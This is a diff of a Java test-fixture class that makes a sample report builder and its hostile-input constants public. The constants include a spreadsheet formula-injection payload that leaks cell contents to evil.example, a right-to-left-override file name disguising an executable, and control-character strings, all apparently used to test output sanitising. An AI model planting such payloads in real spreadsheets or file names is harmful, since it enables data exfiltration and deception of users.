@@ -20,14 +20,14 @@ import java.util.Random;
 import java.util.TreeMap;
 
 /** A German enterprise: seven accounts, one of which refuses and one of which is suspended, and what has been found there. */
-final class SampleReport {
+public final class SampleReport {
 
-    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
-    static final String CONTROL_CHARACTERS = "a\u0000b\u0007c\u001b[31md\u009be";
-    static final String RIGHT_TO_LEFT = "invoice\u202Egnp.exe\u2066";
-    static final String EMOJI_AND_SCRIPTS = "Schlüssel 🔑 für 東京 und Αθήνα и Москва";
-    static final String LONE_SURROGATE = "half\ud83d";
-    static final String LONG = "sehr-lange-bezeichnung-".repeat(13) + "x";
+    public static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
+    public static final String CONTROL_CHARACTERS = "a\u0000b\u0007c\u001b[31md\u009be";
+    public static final String RIGHT_TO_LEFT = "invoice\u202Egnp.exe\u2066";
+    public static final String EMOJI_AND_SCRIPTS = "Schlüssel 🔑 für 東京 und Αθήνα и Москва";
+    public static final String LONE_SURROGATE = "half\ud83d";
+    public static final String LONG = "sehr-lange-bezeichnung-".repeat(13) + "x";
 
     private static final List<String> HOSTILE = List.of(
             FORMULA,
@@ -58,7 +58,7 @@ final class SampleReport {
 
     private SampleReport() {}
 
-    static MemoryReport enterprise() {
+    public static MemoryReport enterprise() {
         var random = new Random(20261122);
         var resources = resources(random);
         return new MemoryReport(
@@ -75,7 +75,7 @@ final class SampleReport {
                 coverage(resources));
     }
 
-    static MemoryReport empty() {
+    public static MemoryReport empty() {
         return new MemoryReport(
                 "20261122T230004Z",
                 List.of(),
@@ -86,7 +86,7 @@ final class SampleReport {
                 List.of());
     }
 
-    static MemoryReport onlyGaps() {
+    public static MemoryReport onlyGaps() {
         return new MemoryReport(
                 "20261122T230004Z",
                 ACCOUNTS,
